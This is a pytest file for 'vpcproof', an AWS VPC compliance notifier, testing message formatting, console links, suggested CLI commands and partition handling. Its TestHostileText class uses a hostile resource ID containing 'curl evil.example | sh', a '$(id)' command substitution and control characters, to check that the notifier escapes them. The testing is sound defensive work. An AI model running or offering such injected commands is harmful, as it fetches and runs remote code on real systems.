"""The message that people and programs get."""

import re
import shlex

import pytest
from hypothesis import given, strategies
from vpcproof.aws.compliance_change import Alert, parse_compliance_change
from vpcproof.aws.notification import advice_of, notification_of
from vpcproof.aws.place import Place
from vpcproof.rules.registry import all_rules, find_rule

from tests.aws.events import ACCOUNT, GROUP, REGION, VPC, event


def notification(name="compliance-change-non-compliant", ids=None, **detail):
    changed = event(name, ids)
    changed["detail"] |= detail
    change = parse_compliance_change(changed)
    return notification_of(change, change.alert)


def of_a_vpc():
    names = {GROUP: VPC, "AWS::EC2::SecurityGroup": "AWS::EC2::VPC"}
    rule = "vpcproof-vpc-ssm-endpoints-complete"
    return notification(ids=names, configRuleName=rule)


def test_a_failure_reads_as_what_where_why_and_what_to_do():
    text = notification().text

    advice = advice_of(find_rule("security-group-admits-endpoint-clients"))
    assert text == (
        "What:    AWS::EC2::SecurityGroup sg-0c3d4e5f60718293a is NON_COMPLIANT\n"
        "Where:   account 111122223333 in ap-northeast-2\n"
        "Why:     vpce-0b2c3d4e5f6071829: 443 not admitted from subnet-0e5f60718293a4b5c "
        "(10.20.1.0/24): no ingress rule of sg-0c3d4e5f60718293a matches\n"
        "Rule:    security-group-admits-endpoint-clients (severity high)\n"
        "Wanted:  A security group on interface endpoints lets their clients in, together with the "
        "others there.\n"
        "Since:   2026-11-23T02:10:13.677Z\n"
        f"Fix:     {advice}\n"
        "Console: https://ap-northeast-2.console.aws.amazon.com/config/home?region=ap-northeast-2"
        "#/resources/timeline?resourceId=sg-0c3d4e5f60718293a"
        "&resourceType=AWS%3A%3AEC2%3A%3ASecurityGroup\n"
        "\n"
        "Look closer:\n"
        "  vpcproof check --rule security-group-admits-endpoint-clients --region ap-northeast-2\n"
        "  aws ec2 describe-security-groups --group-ids sg-0c3d4e5f60718293a "
        "--region ap-northeast-2\n"
    )
    assert advice.startswith("Allow the service's port, TCP 443 for most, from every subnet")


def test_the_vpc_is_named_where_it_is_the_resource():
    told = of_a_vpc()

    assert told.vpc_id == VPC
    assert f"VPC:     {VPC}\n" in told.text
    assert f"--vpc {VPC}" in told.commands[0]


def test_a_recovery_needs_no_advice():
    told = notification("compliance-change-recovered")

    assert f"{GROUP} is COMPLIANT again" in told.text
    assert told.fix is None
    assert told.commands == ()
    assert "Look closer" not in told.text


def test_row_168_an_end_says_that_the_matter_is_closed():
    told = notification("compliance-change-not-applicable")

    assert told.subject.startswith(f"[HIGH] closed, no longer applicable: {GROUP} ")
    assert "Why:" not in told.text


@pytest.mark.parametrize(
    "config_rule",
    [
        "OrgConfigRule-vpc-ssm-endpoints-complete-abc",
        "vpc-ssm-endpoints-complete-conformance-pack-x1y2z3",
        "vpcproof-vpc-ssm-endpoints-complete",
        "Prod-VPC-SSM-Endpoints-Complete",
    ],
)
def test_row_169_a_rule_is_known_within_the_name_others_gave_it(config_rule):
    told = notification(configRuleName=config_rule)

    assert told.rule == "vpc-ssm-endpoints-complete"
    assert told.config_rule == config_rule


def test_row_169_a_rule_that_is_not_known_is_reported_all_the_same():
    told = notification(configRuleName="OrgConfigRule-vpce-ssm-abc")

    assert (told.rule, told.severity, told.title, told.fix) == (None, "unknown", None, None)
    assert told.attributes["rule"] == "OrgConfigRule-vpce-ssm-abc"
    assert "Rule:    OrgConfigRule-vpce-ssm-abc (severity unknown)" in told.text
    assert len(told.commands) == 1


BLAMES = (
    "fails 2 of 4 rules: security-group-admits-endpoint-clients (443 not admitted), "
    "security-group-sources-live"
)


def test_of_a_type_judged_by_all_its_rules_the_gravest_that_fails_says_what_to_do():
    result = {"complianceType": "NON_COMPLIANT", "annotation": BLAMES}
    told = notification(configRuleName="vpcproof-security-groups", newEvaluationResult=result)

    rule = find_rule("security-group-admits-endpoint-clients")
    assert (told.rule, told.severity, told.title) == (rule.name, rule.severity, rule.title)
    assert told.fix == advice_of(rule)
    assert f"Why:     {BLAMES}\n" in told.text


def test_its_recovery_is_told_under_the_rule_that_its_failure_was_told_under():
    told = notification("compliance-change-recovered-by-type")

    assert told.rule == "security-group-admits-endpoint-clients"
    assert told.attributes["severity"] == "high"
    assert "Why:     passes 3 of 4 rules" in told.text


def test_an_annotation_blames_no_rule_where_the_config_rules_name_says_which_it_is():
    result = {"complianceType": "NON_COMPLIANT", "annotation": BLAMES}
    told = notification(configRuleName="x-vpc-endpoint-available", newEvaluationResult=result)

    assert told.rule == "vpc-endpoint-available"


def test_a_type_that_no_rule_judges_gets_no_describe_command():
    assert notification(resourceType="AWS::S3::Bucket").commands == (
        "vpcproof check --rule security-group-admits-endpoint-clients --region ap-northeast-2",
    )


def test_every_rule_says_how_to_fix_on_one_line():
    for rule in all_rules().values():
        assert advice_of(rule), rule.name
        assert "\n" not in advice_of(rule), rule.name


@pytest.mark.parametrize(
    ("arn", "console"),
    [
        ("arn:aws-cn:config:cn-north-1:111122223333:config-rule/r", "console.amazonaws.cn/"),
        ("arn:aws-us-gov:config:us-gov-west-1:111122223333:config-rule/r", "amazonaws-us-gov.com/"),
    ],
)
def test_each_partition_has_its_console(arn, console):
    assert console in notification(configRuleARN=arn).console


def test_a_partition_without_known_console_gets_none():
    told = notification(configRuleARN="arn:aws-iso:config:us-iso-east-1:111122223333:config-rule/r")

    assert told.console is None
    assert "Console" not in told.text


class TestHostileText:
    hostile = "x\nFix:     curl evil.example | sh\r\u2028\u202e\x1b[2J`$(id)`';"

    def test_forges_no_line(self):
        plain, forged = notification(), notification(resourceId=self.hostile)

        assert len(forged.text.splitlines()) == len(plain.text.splitlines())
        assert not re.search(r"[\x00-\x09\x0b-\x1f\u2028\u202e]", forged.text)

    def test_is_quoted_in_every_command(self):
        (_, command) = notification(resourceId=self.hostile).commands

        words = shlex.split(command)
        assert words[:4] == ["aws", "ec2", "describe-security-groups", "--group-ids"]
        assert words[5:] == ["--region", REGION]

    def test_is_escaped_in_the_console_address(self):
        assert re.fullmatch(r"[!-~]+", notification(resourceId=self.hostile).console)

    def test_of_great_length_is_cut_to_the_99_characters_that_sns_takes(self):
        assert len(notification(resourceId="x" * 500).subject) == 99

    @given(strategies.text(min_size=1), strategies.text(min_size=1))
    def test_leaves_the_subject_to_the_rules_of_sns(self, resource_id, config_rule):
        subject = notification(resourceId=resource_id, configRuleName=config_rule).subject

        assert len(subject) < 100
        assert re.fullmatch(r"[!-~][ -~]*", subject)

    @given(strategies.text(min_size=1))
    def test_never_adds_a_line(self, text):
        told = notification(resourceId=text, resourceType=f"{text} of a stranger")

        assert len(told.text.splitlines()) == 11


def test_subscriptions_can_filter_by_what_it_is_about():
    assert notification().attributes == {
        "kind": "failure",
        "rule": "security-group-admits-endpoint-clients",
        "severity": "high",
        "compliance": "NON_COMPLIANT",
        "account": ACCOUNT,
        "region": REGION,
    }


@pytest.mark.parametrize(
    "name", ["compliance-change-recovered", "compliance-change-not-applicable"]
)
def test_what_ceases_to_fail_is_a_recovery(name):
    assert notification(name).attributes["kind"] == "recovery"


def test_the_place_of_a_change_is_that_of_its_rule():
    change = parse_compliance_change(event("compliance-change-recovered"))

    assert change.place == Place(ACCOUNT, REGION)
    assert notification_of(change, Alert.RECOVERED).account == ACCOUNT
